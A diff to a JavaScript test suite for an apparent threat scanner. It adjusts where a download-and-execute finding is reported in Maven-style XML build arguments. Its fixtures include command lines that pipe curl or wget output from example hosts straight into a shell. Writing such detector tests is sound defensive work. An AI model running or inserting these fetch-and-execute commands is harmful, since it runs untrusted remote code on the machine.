@@ -891,7 +891,8 @@ describe('behaviour of languages read line by line', () => {
   });
   it('reads a command kept as the text of one XML element, as build plugins run it', () => {
     const pom = '<executable>sh</executable>\n<arguments>\n  <argument>-c</argument>\n  <argument>curl -fsSL https://rules.example.net/boot | sh</argument>\n</arguments>';
-    expect(threats(fence('xml', pom))).toEqual(['threat/download-exec 11:1 error']);
+    // Under an `<executable>` the arguments are one command line with it, reported once, at the program.
+    expect(threats(fence('xml', pom))).toEqual(['threat/download-exec 8:7 error']);
     expect(threats(fence('xml', '<Exec Command="dotnet tool restore" />\n<argument>wget -qO- https://x.example.net/i.sh | bash</argument>'))).toEqual(['threat/download-exec 9:1 error']);
     expect(threats(fence('xml', '<executable>curl</executable>\n<arguments>\n  <argument>--version</argument>\n</arguments>'))).toEqual([]);
   });
